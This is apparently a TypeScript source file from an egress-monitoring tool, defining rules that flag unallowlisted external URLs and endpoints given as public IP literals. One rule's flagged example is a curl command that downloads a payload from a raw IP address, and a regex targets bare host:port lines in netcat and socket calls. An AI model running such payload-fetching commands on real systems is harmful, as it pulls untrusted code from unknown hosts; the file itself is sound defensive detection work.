// Every external URL (INFO, with its host so callers can apply the allowlist) and raw IP endpoints.
import { findUrls, isPublicIp } from '../../url.js';
import type { Rule, RuleHit } from '../../types.js';

function findExternalUrls(text: string): RuleHit[] {
  return findUrls(text).map((u) => ({ start: u.start, end: u.end, host: u.host }));
}

export const externalUrl = {
  id: 'network.external-url',
  severity: 'info',
  category: 'network',
  title: 'External URL (not on the allowlist)',
  keywords: ['://'],
  match: findExternalUrls,
  yieldsTo: ['exfil', 'domain', 'secret'],
  polarity: false,
  maxLength: 4400,
  examples: {
    flagged: [{ text: 'See https://status.example-vendor.io/incidents for details.' }],
    notFlagged: [{ text: 'See https://docs.openclaw.ai/gateway for details.' }, { text: 'http://localhost:18789/' }],
  },
  remediation: 'If the domain is expected, add it: `clawguard egress allowlist --add <domain>`.',
} satisfies Rule;

const isExternalIp = isPublicIp;

const DOTTED_QUAD = /\d\.\d{1,3}\.\d{1,3}\.\d/;

/** Every digit-dot-digit triple: an IP literal holds one, so text without any (and no URL) is skipped. */
const DIGIT_DOT_DIGIT = Array.from({ length: 100 }, (_, i) => `${Math.floor(i / 10)}.${i % 10}`);

function findRawIpEndpoints(text: string): RuleHit[] {
  const out: RuleHit[] = [];
  for (const u of findUrls(text)) if (isExternalIp(u.host)) out.push({ start: u.start, end: u.end, host: u.host });
  // Bare host:port in socket calls and netcat lines (only when a dotted quad occurs at all).
  if (!DOTTED_QUAD.test(text)) return out;
  const bare = /(?<![\w.:])((?:25[0-5]|2[0-4]\d|1?\d{1,2})(?:\.(?:25[0-5]|2[0-4]\d|1?\d{1,2})){3})(?::\d{1,5}|["']\s{0,4},\s{0,4}\d{1,5}|\s{1,4}\d{2,5}\b)/g;
  for (let m = bare.exec(text); m; m = bare.exec(text)) {
    if (isExternalIp(m[1] as string) && !out.some((o) => o.start <= m!.index && m!.index < o.end)) out.push({ start: m.index, end: m.index + m[0].length, host: m[1] as string });
  }
  return out;
}

export const rawIpEndpoint = {
  id: 'domain.raw-ip-endpoint',
  severity: 'warning',
  category: 'domain',
  title: 'Endpoint addressed by a public IP literal',
  keywords: ['://', ...DIGIT_DOT_DIGIT],
  match: findRawIpEndpoints,
  maxLength: 4400,
  examples: {
    flagged: [{ text: 'curl http://45.61.138.12:8080/payload -o /tmp/p', kind: 'shell' }],
    notFlagged: [{ text: 'curl http://127.0.0.1:18789/health', kind: 'shell' }, { text: 'curl http://192.168.1.20/', kind: 'shell' }],
  },
  remediation: 'Legitimate services have names; find out who operates the address before allowing it.',
} satisfies Rule;

export const urlRules = [externalUrl, rawIpEndpoint] satisfies Rule[];
